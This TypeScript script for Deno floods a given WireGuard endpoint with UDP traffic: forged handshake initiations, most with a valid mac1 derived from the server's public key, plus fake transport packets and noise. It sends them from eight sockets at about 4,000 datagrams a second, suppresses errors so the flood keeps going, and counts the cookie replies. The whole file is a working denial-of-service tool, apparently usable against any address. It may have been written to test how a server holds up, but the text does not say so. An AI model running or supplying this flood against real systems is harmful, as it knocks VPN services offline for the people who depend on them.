/**
 * Floods a WireGuard port from addresses and ports of its own until its input ends: handshake
 * initiations that pass the first check (which needs the public key alone), initiations that do not,
 * data with random indices, and noise. Prints what it sent and how many cookies came back.
 *
 *     flood.ts ADDRESS PORT PUBLIC-KEY
 */

import { randomBytes } from "node:crypto";
import { createSocket } from "node:dgram";
import { blake2s } from "@noble/hashes/blake2.js";

/** A batch each 10 ms: 4,000 datagrams a second, forty times what is answered by a handshake. */
const BATCH = 40;
const PAUSE_MILLIS = 10;
const SOCKETS = 8;
const INITIATION_BYTES = 148;
const COOKIE_REPLY = 3;
const TRANSPORT = 4;

const [address = "", port = "", publicKey = ""] = Deno.args;
// WireGuard paper §5.4.4: the key of the first mac is a hash of the responder's public key.
const key = blake2s(
  new Uint8Array([...new TextEncoder().encode("mac1----"), ...Uint8Array.fromBase64(publicKey)]),
);
const count = { initiations: 0, others: 0, cookies: 0 };
const sockets = Array.from({ length: SOCKETS }, () => {
  const socket = createSocket("udp4");
  socket.on("message", (message) => {
    if (message[0] === COOKIE_REPLY) count.cookies += 1;
  });
  // A full queue or an ICMP answer ends no flood.
  socket.on("error", () => {});
  socket.bind();
  return socket;
});

let ended = false;
console.log("flooding");
Deno.stdin.readable.pipeTo(new WritableStream()).finally(() => ended = true);
for (let turn = 0; !ended; turn += 1) {
  for (let one = 0; one < BATCH; one += 1) {
    const datagram = one % 2 === 0 ? initiation(one % 8 !== 0) : other(one);
    if (one % 2 === 0) count.initiations += 1;
    else count.others += 1;
    sockets[(turn + one) % SOCKETS]!.send(datagram, Number(port), address);
  }
  await new Promise((resolve) => setTimeout(resolve, PAUSE_MILLIS));
}
for (const socket of sockets) socket.close();
console.log(JSON.stringify(count));
Deno.exit(0);

/** Type, sender, ephemeral key, static key, timestamp, mac1, mac2: WireGuard paper §5.4.2. */
function initiation(plausible: boolean): Uint8Array {
  const message = new Uint8Array(randomBytes(INITIATION_BYTES));
  message.set([1, 0, 0, 0]);
  message.fill(0, 132);
  if (plausible) message.set(blake2s(message.subarray(0, 116), { key, dkLen: 16 }), 116);
  return message;
}

function other(one: number): Uint8Array {
  const message = new Uint8Array(randomBytes(one % 3 === 0 ? 1 + one * 30 : 128));
  if (one % 3 !== 0) message.set([TRANSPORT, 0, 0, 0]);
  return message;
}
